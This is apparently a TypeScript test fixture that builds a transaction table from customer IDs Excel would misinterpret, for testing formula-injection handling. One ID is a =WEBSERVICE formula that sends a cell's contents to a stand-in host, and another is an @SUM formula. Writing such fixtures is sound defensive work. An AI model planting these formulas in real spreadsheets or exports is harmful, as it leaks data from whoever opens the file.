/** Customer ids that Excel would read as a formula, a #NAME?, a number or another formula, if typed. */
export const RISKY_IDS = [
  '=WEBSERVICE("http://example.invalid/?d="&A2)',
  "+86 138 0013 8000",
  "-001",
  "'quoted",
  "@SUM(B2:B3)",
];

/** A transaction table whose customers have the risky ids, a few purchases each. */
export function riskyTransactions(): (string | number)[][] {
  const rows: (string | number)[][] = [["Customer ID", "Date", "Amount"]];
  RISKY_IDS.forEach((id, k) => {
    for (let purchase = 0; purchase <= k; purchase++)
      rows.push([id, 45000 + 7 * purchase + k, 10 + k]);
  });
  return rows;
}
